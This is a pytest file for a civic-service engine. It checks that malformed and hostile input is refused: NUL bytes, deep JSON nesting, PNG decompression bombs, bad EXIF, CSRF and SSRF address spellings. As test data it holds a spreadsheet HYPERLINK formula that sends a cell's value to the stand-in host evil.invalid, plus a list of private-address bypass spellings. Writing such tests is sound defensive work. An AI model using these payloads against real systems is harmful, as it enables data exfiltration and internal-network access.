"""Issue 19 points 6 and 7: every malformed input gets a 4xx with a bilingual reason, and one bad item of a
batch or an import spoils nothing else."""
from __future__ import annotations

import json

from sqlalchemy import func, select

from engine.core.models import Event
from tests.helpers import bearer, csrf_from, event


def _events(session) -> int:
    return session.scalar(select(func.count(Event.id)))


def test_a_nul_byte_in_a_json_field_is_refused_by_name_and_nothing_is_stored(client, intake_token, session):
    before = _events(session)
    answer = client.post("/api/v1/events", json=event(description="bad\x00text"), headers=bearer(intake_token))
    assert answer.status_code == 422
    assert answer.json["errors"] == [{"field": "description", "message": "文本中含有空字符（NUL）"}]
    assert _events(session) == before
    english = client.post("/api/v1/events", json=event(address="a\x00"),
                          headers={**bearer(intake_token), "Accept-Language": "en"})
    assert english.json["errors"] == [{"field": "address", "message": "the text holds a NUL byte"}]


def test_a_nul_byte_in_a_query_or_a_form_field_is_refused(client, intake_token):
    query = client.get("/api/v1/tasks?status=open%00", headers=bearer(intake_token))
    assert query.status_code == 422 and query.json["errors"][0]["field"] == "status"
    token = csrf_from(client.get("/login?lang=en").get_data(as_text=True))
    page = client.post("/login?lang=en", data={"username": "admin\x00", "password": "x", "csrf_token": token})
    assert page.status_code == 422
    assert "username: the text holds a NUL byte" in page.get_data(as_text=True)
    open311 = client.get("/open311/v2/requests.json?service_code=06029%00")
    assert open311.status_code == 400 and "service_code" in open311.json[0]["description"]


def test_deeply_nested_json_is_refused_with_400(client, intake_token, session):
    before = _events(session)
    for depth in (40, 100_000):
        body = "[" * depth + "]" * depth
        answer = client.post("/api/v1/events", data=body, content_type="application/json",
                             headers={**bearer(intake_token), "Accept-Language": "en"})
        assert answer.status_code == 400, depth
        assert answer.json["errors"][0]["message"] == "nested more than 32 levels deep"
    batch = client.post("/api/v1/events/batch", data='{"events": ' + "[" * 100_000 + "]" * 100_000 + "}",
                        content_type="application/json", headers=bearer(intake_token))
    assert batch.status_code == 400
    assert _events(session) == before


def test_open311_ids_that_are_not_ascii_digits_or_too_large_are_not_found(client):
    for request_id in ("²", "9" * 25, str(2**63)):
        answer = client.get(f"/open311/v2/requests/{request_id}.json")
        assert answer.status_code == 404, request_id
    for ids in ("²", str(2**63), "1,²"):
        listing = client.get("/open311/v2/requests.json", query_string={"service_request_id": ids})
        assert listing.status_code == 400, ids
        assert "service_request_id" in listing.json[0]["description"]


def test_one_nul_item_of_a_batch_is_refused_and_the_others_are_stored(client, intake_token, session):
    good, bad, other = event(), event(description="x\x00y"), event()
    answer = client.post("/api/v1/events/batch", json={"events": [good, bad, other]}, headers=bearer(intake_token))
    assert answer.status_code == 207
    assert answer.json["accepted"] == 2 and answer.json["refused"] == 1
    refused = answer.json["results"][1]
    assert refused["status"] == "refused" and refused["errors"][0]["field"] == "description"
    stored = set(session.scalars(select(Event.source_event_id).where(
        Event.source_event_id.in_([good["source_event_id"], bad["source_event_id"], other["source_event_id"]]))))
    assert stored == {good["source_event_id"], other["source_event_id"]}


def test_a_negative_or_huge_admin_page_number_is_a_400(client, login):
    login(client, "admin")
    assert client.get("/admin/event/?page=1").status_code == 200
    for query in ("page=-1", "page=99999999999999999999", "page_size=-5", "page=%C2%B2"):
        answer = client.get(f"/admin/event/?{query}&lang=en")
        assert answer.status_code == 400, query
        assert "must be a whole number from 0 to 1000000" in answer.get_data(as_text=True)


def _png_header_only(width: int, height: int) -> bytes:
    """A PNG that claims a size: its header, a scrap of data and the end (a decompression bomb's shape)."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
            + chunk(b"IEND", b""))


def _jpeg_with_exif(gps: dict | None = None, taken: str | None = None, offset: str | None = None) -> bytes:
    import io

    from PIL import Image

    exif = Image.Exif()
    if taken is not None:
        exif.get_ifd(0x8769)[0x9003] = taken
    if offset is not None:
        exif.get_ifd(0x8769)[0x9011] = offset
    if gps is not None:
        exif.get_ifd(0x8825).update(gps)
    out = io.BytesIO()
    Image.new("RGB", (32, 32), (10, 120, 40)).save(out, "JPEG", exif=exif)
    return out.getvalue()


def _handling_task(client, intake_token, drain) -> tuple[dict, str]:
    from tests.helpers import new_api_task, step, user_token

    task = new_api_task(client, intake_token, drain)
    unit = user_token(client, "dongcheng")
    return step(client, unit, step(client, unit, task, "sign"), "start"), unit


def test_a_20000_by_20000_png_is_refused_before_it_is_decoded(client, intake_token, drain, session):
    from tests.helpers import upload_photo

    task, unit = _handling_task(client, intake_token, drain)
    answer = upload_photo(client, unit, task["id"], _png_header_only(20_000, 20_000), name="bomb.png")
    assert answer.status_code == 422
    assert "too many pixels" in answer.json["errors"][0]["message"]


def test_a_photo_whose_gps_divides_by_zero_has_no_position_and_the_listing_stays_json(client, intake_token, drain):
    import json

    from zoneinfo import ZoneInfo

    from PIL.TiffImagePlugin import IFDRational

    from engine.core.photos import inspect_photo
    from tests.helpers import upload_photo

    task, unit = _handling_task(client, intake_token, drain)
    zero = (IFDRational(35, 0), IFDRational(1, 1), IFDRational(0, 1))
    photo = _jpeg_with_exif(gps={1: "N", 2: zero, 3: "E", 4: zero})
    facts = inspect_photo(photo, ZoneInfo("Asia/Shanghai"))  # SQLite would store NaN as NULL; PostgreSQL keeps it
    assert (facts.lat, facts.lon) == (None, None)
    answer = upload_photo(client, unit, task["id"], photo)
    assert answer.status_code == 201
    assert answer.json["lat"] is None and answer.json["lon"] is None

    def strict(constant: str):
        raise ValueError(f"{constant} is not JSON")

    listing = client.get(f"/api/v1/tasks/{task['id']}/evidence", headers=bearer(unit))
    assert listing.status_code == 200
    rows = json.loads(listing.get_data(as_text=True), parse_constant=strict)["evidence"]
    assert [(row["lat"], row["lon"]) for row in rows] == [(None, None)]


def test_a_photo_with_an_invalid_exif_time_offset_is_refused(client, intake_token, drain, session):
    from engine.core.models import Task, TaskTemplate
    from tests.helpers import upload_photo

    task, unit = _handling_task(client, intake_token, drain)
    row = session.get(Task, task["id"])
    session.get(TaskTemplate, row.template_id).evidence_rules = {"taken_after_dispatch": True}
    session.commit()
    taken = row.created_at.replace(year=row.created_at.year - 1).strftime("%Y:%m:%d %H:%M:%S")  # a year too early
    answer = upload_photo(client, unit, task["id"], _jpeg_with_exif(taken=taken, offset="+99:00"))
    assert answer.status_code == 422
    assert "+99:00" in answer.json["errors"][0]["message"]
    zh = upload_photo(client, unit, task["id"], _jpeg_with_exif(taken=taken, offset="+99:00"), lang="zh-CN")
    assert "时区偏移" in zh.json["errors"][0]["message"]


def test_one_nul_row_of_a_csv_import_is_refused_and_the_other_rows_are_imported(app, client, login, session,
                                                                                   factory):
    import io
    import re

    from engine.core.models import ImportRun
    from engine.intake import imports
    from tests.helpers import local_time, unique

    login(client, "admin")
    source, ids = unique("hotline-export"), [unique("gd") for _ in range(3)]
    when = local_time(23)[:16].replace("T", " ")
    text = ("工单编号,问题类别代码,受理时间,网格,问题描述\n"
            f"{ids[0]},06029,{when},DC-01,好\n{ids[1]},06029,{when},DC-01,坏\x00行\n{ids[2]},06029,{when},DC-02,好\n")
    page = client.get("/admin/import/").get_data(as_text=True)
    answer = client.post("/admin/import/", data={
        "csrf_token": csrf_from(page), "source": source, "source_type": "hotline", "timezone": "Asia/Shanghai",
        "file": (io.BytesIO(text.encode("utf-8")), "12345.csv")}, content_type="multipart/form-data")
    run_id = int(re.search(r"/import/(\d+)/", answer.headers["Location"]).group(1))
    assert imports.dry_run(session, session.get(ImportRun, run_id))["invalid"] == 1
    done = imports.run(factory, run_id)
    assert (done.status, done.created, done.refused) == ("done", 2, 1)
    assert [(r["row"], [p["field"] for p in r["problems"]]) for r in done.report] == [(3, ["description"])]
    session.expire_all()
    assert set(session.scalars(select(Event.source_event_id).where(Event.source == source))) == {ids[0], ids[2]}


def test_a_task_action_carries_only_its_own_short_fields_and_nothing_else_is_stored(client, intake_token, drain,
                                                                                     session):
    from engine.core.models import TaskTransition
    from tests.helpers import move, new_api_task, user_token

    task = new_api_task(client, intake_token, drain)
    unit = user_token(client, "dongcheng")
    blob = move(client, unit, task["id"], "sign", task["version"], data={"blob": "x" * 1_500_000})
    assert blob.status_code == 422
    assert blob.json["errors"][0]["field"] == "data.blob"
    assert "not a field of this action" in blob.json["errors"][0]["message"]
    long_grounds = move(client, unit, task["id"], "send_back", task["version"], comment="不归我们",
                        data={"grounds": "g" * 100_000}, lang="zh-CN")
    assert long_grounds.status_code == 422 and "不超过 64 个字符" in long_grounds.json["errors"][0]["message"]
    long_comment = move(client, unit, task["id"], "sign", task["version"], comment="很" * 100_000)
    assert long_comment.status_code == 422 and long_comment.json["errors"][0]["field"] == "comment"
    session.expire_all()
    assert session.scalars(select(TaskTransition).where(TaskTransition.task_id == task["id"],
                                                        TaskTransition.action == "sign")).all() == []
    signed = move(client, unit, task["id"], "sign", task["version"], comment="收到")
    assert signed.status_code == 200


def test_a_unit_name_written_like_a_formula_stays_text_in_the_bulletin_xlsx(app, login, session):
    import io
    from datetime import datetime, timezone

    from openpyxl import load_workbook

    from engine.core import clock
    from engine.core.models import Unit

    clock.set_clock(lambda: datetime(2026, 12, 5, 3, tzinfo=timezone.utc))
    unit = session.scalar(select(Unit).where(Unit.code == "JD-DC"))
    unit.name_en = '=HYPERLINK("http://evil.invalid/?"&A1,"Dongcheng")'
    session.commit()
    client = app.test_client()
    login(client, "assessor")
    book = load_workbook(io.BytesIO(client.get("/assessment/bulletins/2026-11.xlsx?lang=en").data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and "evil.invalid" in cell.value]
    assert cells, "the unit's name is in the bulletin"
    assert all(cell.data_type == "s" and cell.value.startswith("'=HYPERLINK") for cell in cells)
    assert not any(cell.data_type == "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)


def test_formula_prefixes_are_escaped_in_every_export_cell():
    from engine.core.cells import inert_row

    assert inert_row(["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "东城", -3, 2.5, None]) == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "东城", -3, 2.5, None]


def test_the_queue_dashboard_refuses_a_post_without_the_csrf_token(app, client, login):
    login(client, "admin")
    assert client.post("/rq/requeue/nothing-here").status_code == 400  # no token: a forged request
    assert client.get("/rq/requeue/nothing-here").status_code == 405  # requeue-all only by POST
    assert client.get("/rq/").status_code == 200
    token = client.get_cookie("_csrf_token", path="/rq")
    assert token is not None, "the dashboard's script finds the token in this cookie"
    assert client.post("/rq/requeue/nothing-here", headers={"X-CSRFToken": token.value}).status_code == 200


def test_every_ipv6_spelling_of_a_private_address_is_refused_by_the_outbound_client(monkeypatch):
    import pytest

    from engine.delivery import http

    monkeypatch.delenv("CIVICRULES_WEBHOOK_ALLOW", raising=False)
    for address in ("::7f00:1", "::127.0.0.1", "::a00:1", "2002:7f00:1::", "2002:c0a8:105::1", "64:ff9b:1::7f00:1",
                    "::ffff:127.0.0.1", "::ffff:0:a9fe:a9fe", "fec0::1", "0177.0.0.1", "127.1", "2130706433"):
        with pytest.raises(http.Refused):
            http.resolve_allowed(address, 80)
    assert http.resolve_allowed("2606:4700:4700::1111", 443) == "2606:4700:4700::1111"
    monkeypatch.setenv("CIVICRULES_WEBHOOK_ALLOW", "10.0.0.0/8")
    assert http.resolve_allowed("::ffff:10.1.2.3", 80) == "::ffff:10.1.2.3"


def test_the_outbound_client_checks_the_address_it_reached_at_connect_time(monkeypatch):
    import socket

    import pytest

    from engine.delivery import http

    monkeypatch.delenv("CIVICRULES_WEBHOOK_ALLOW", raising=False)
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        connection = http._PinnedHTTP("rebound.example", port, "127.0.0.1", 5, 5)  # as if DNS had changed its answer
        with pytest.raises(http.Refused):
            connection.connect()
        assert connection.sock is None
        monkeypatch.setenv("CIVICRULES_WEBHOOK_ALLOW", "127.0.0.1/32")
        allowed = http._PinnedHTTP("rebound.example", port, "127.0.0.1", 5, 5)
        allowed.connect()
        allowed.close()


def test_numbers_written_with_superscript_digits_are_refused_not_a_crash(client, login):
    from tests.helpers import user_token

    token = user_token(client, "admin")
    inbox = client.get("/api/v1/inbox?offset=%C2%B2", headers=bearer(token))  # "²": isdigit() but not int()
    assert inbox.status_code == 422 and inbox.json["errors"][0]["field"] == "offset"
    login(client, "admin")
    assert client.get("/admin/history/?unit_id=%C2%B2").status_code == 200  # an unusable filter is ignored


def test_an_admin_record_id_no_key_can_hold_is_no_record(client, login):
    login(client, "admin")
    for view in ("edit", "details"):
        for bad in ("99999999999999999999", "abc", "%C2%B2"):
            answer = client.get(f"/admin/unit/{view}/?id={bad}")
            assert answer.status_code == 302, (view, bad)  # back to the list: "Record does not exist"


def test_an_unpaired_surrogate_is_refused_by_name_not_a_server_error(client, intake_token, session):
    """JSON may spell `"\\ud800"`, which no database encoding can store: a 422 naming the field, not a 500."""
    before = _events(session)
    single = client.post("/api/v1/events", data=json.dumps(event(description="坏\ud800字")),
                         content_type="application/json", headers=bearer(intake_token))
    assert single.status_code == 422
    assert single.json["errors"] == [{"field": "description", "message": "文本中含有不成对的代理字符（不是有效的 Unicode）"}]
    good, bad = event(), event(address="\udfff")
    batch = client.post("/api/v1/events/batch", data=json.dumps({"events": [good, bad]}), content_type="application/json",
                        headers={**bearer(intake_token), "Accept-Language": "en"})
    assert batch.status_code == 207 and batch.json["accepted"] == 1
    assert batch.json["results"][1]["errors"] == [
        {"field": "address", "message": "the text holds an unpaired surrogate (not valid Unicode)"}]
    assert _events(session) == before + 1
